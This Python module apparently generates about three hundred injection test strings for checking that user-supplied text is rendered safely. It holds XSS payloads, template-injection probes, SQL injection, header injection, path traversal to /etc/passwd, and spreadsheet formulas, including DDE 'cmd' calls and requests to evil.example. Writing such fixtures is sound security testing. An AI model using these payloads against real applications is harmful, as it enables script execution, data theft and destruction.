"""Three hundred texts that would run, break out or mislead, were they ever taken for anything but text.

Each sets `window.__ran` where it runs, opens a dialog, or asks a host that does not exist; each is distinct.
"""

from collections.abc import Iterator, Sequence

RUN = "window.__ran=1"
HOST = "//evil.example"
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerover"),
    *("onwheel", "onscroll", "onbeforeinput", "onauxclick"),
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "marquee",
    "iframe",
    "object data=x",
    "style",
)
BREAKOUTS = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
)
TEMPLATES = (
    *("{{%s}}", "${%s}", "#{%s}", "<%%=%s%%>", "{%%%s%%}", "[[%s]]", "@(%s)", "{{constructor.constructor('%s')()}}"),
    *("{{$on.constructor('%s')()}}", "<x ng-app>{{%s}}</x>", "{{''.__class__.__mro__}}%s", "${T(java.lang.Runtime)}%s"),
)
SCHEMES = (
    *(
        "javascript:%s",
        "JaVaScRiPt:%s",
        "java\tscript:%s",
        "&#106;avascript:%s",
        "javascript&colon;%s",
        "\x01javascript:%s",
    ),
    *("data:text/html,<script>%s</script>", "data:text/html;base64,PHNjcmlwdD4=%s", "vbscript:%s", "view-source:%s"),
)
LINKS = ("<a href='%s'>klik</a>", "[klik](%s)", "![x](%s)", "<form action='%s'><button>x</button></form>")
SCRIPTS = (
    "<script>%s</script>",
    "<ScRiPt>%s</sCrIpT>",
    "<script/x>%s</script>",
    "<script>%s//",
    "<scr<script>ipt>%s</scr</script>ipt>",
    "<script src=//evil.example/x.js data-x='%s'></script>",
    "<script type=module>%s</script>",
    "<script>/*%s*/</script>",
    "<svg><script>%s</script></svg>",
    "<svg><script href='data:,%s'/></svg>",
    "<math><mtext><script>%s</script></mtext></math>",
    "<template><script>%s</script></template>",
    "<noscript><p title='</noscript><script>%s</script>'>",
    "<iframe srcdoc='<script>parent.%s</script>'>",
    "<xmp><script>%s</script></xmp>",
)
MARKUP = (
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<svg><set onbegin=%s attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=%s/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=%s></foreignObject></svg>",
    "<math href='javascript:%s'>klik</math>",
    "<math><mglyph><style><img src=x onerror=%s></style></mglyph></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%s>",
    "<img src='x` `<script>%s</script>'` `>",
    "<img srcset='//evil.example/a 1x' alt='%s'>",
    "<link rel=stylesheet href='//evil.example/%s.css'>",
    "<base href='//evil.example/%s/'>",
    "<meta http-equiv=refresh content='0;url=javascript:%s'>",
    "<object data='javascript:%s'>",
    "<embed src='javascript:%s'>",
    "<button formaction='javascript:%s'>x</button>",
    "<div style='background:url(//evil.example/%s)'>x</div>",
    "<style>@import '//evil.example/%s';</style>",
    "<style>*{background:url(//evil.example/%s)}</style>",
    "<div style='animation-name:x' onanimationend=%s>",
    "<audio src onloadstart=%s>",
    "<select onfocus=%s autofocus>",
    "<keygen autofocus onfocus=%s>",
    "<table background='javascript:%s'>",
    "<isindex type=image src=1 onerror=%s>",
    "<dialog open onclose=%s>",
)
SPECIFIC = (
    "</script><script>%s</script>",
    '"},"layout":{"title":"<img src=x onerror=%s>"}}',
    '{"type":"Script","namespace":"dash_html_components","props":{"children":"%s"}}',
    '{"__html":"<img src=x onerror=%s>"}',
    '{"function":"%s"}',
    "params.api.%s",
    "d3.format('%s')",
    '<a href="javascript:%s">plotly</a>',
    "<b>%%{text}</b><extra>%s</extra>",
    "%%{customdata[0]}<br>%s",
    "<span onclick=%s class='leaflet-popup-content'>x</span>",
    "L.popup().setContent('%s')",
    "<div class='ag-cell' ref='eCell' onfocus=%s tabindex=0>",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=%s\\x3e",
    "__proto__[toString]=%s",
    "constructor.prototype.x=%s",
    "\u2028%s\u2029",
    "\u202e%s\u202c",
    "＜script＞%s＜/script＞",
    "\u200b<\u200bscript>%s",
    "&lt;script&gt;%s&lt;/script&gt;",
    "&#x3c;script&#x3e;%s",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "+ADw-script+AD4-%s+ADw-/script+AD4-",
    "\x7f<script>%s</script>",
    "'; DROP TABLE complaints; -- %s",
    "' UNION SELECT secret FROM accounts -- %s",
    "%s\r\nSet-Cookie: liveroom=x",
    "../../../../etc/passwd?%s",
)
CELLS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
FORMULAS = (
    *("cmd|'/c calc'!A0", 'HYPERLINK("http://evil.example","klik")', 'WEBSERVICE("http://evil.example")'),
    *('IMPORTXML("http://evil.example","//a")', "SUM(1+1)*cmd|' /C calc'!A0"),
)


def _all() -> Iterator[str]:
    yield from (f"<{tag} {event}={RUN}>" for tag in TAGS for event in EVENTS)
    yield from (f"{mark}<img src=x onerror={RUN}>" for mark in BREAKOUTS)
    yield from (f"{mark} onmouseover={RUN} x={mark}" for mark in BREAKOUTS[:5])
    yield from (form % RUN for form in (*TEMPLATES, *SCRIPTS, *MARKUP, *SPECIFIC))
    yield from (link % (scheme % RUN) for link in LINKS for scheme in SCHEMES)
    yield from (f"{mark}{formula}" for mark in CELLS for formula in FORMULAS)


INJECTIONS: Sequence[str] = tuple(dict.fromkeys(_all()))


def short(number: int, most: int) -> str:
    """An injection that fits a field: one of those that are short enough, in turn."""
    fitting = [one for one in INJECTIONS if len(one) <= most]
    return fitting[number % len(fitting)]
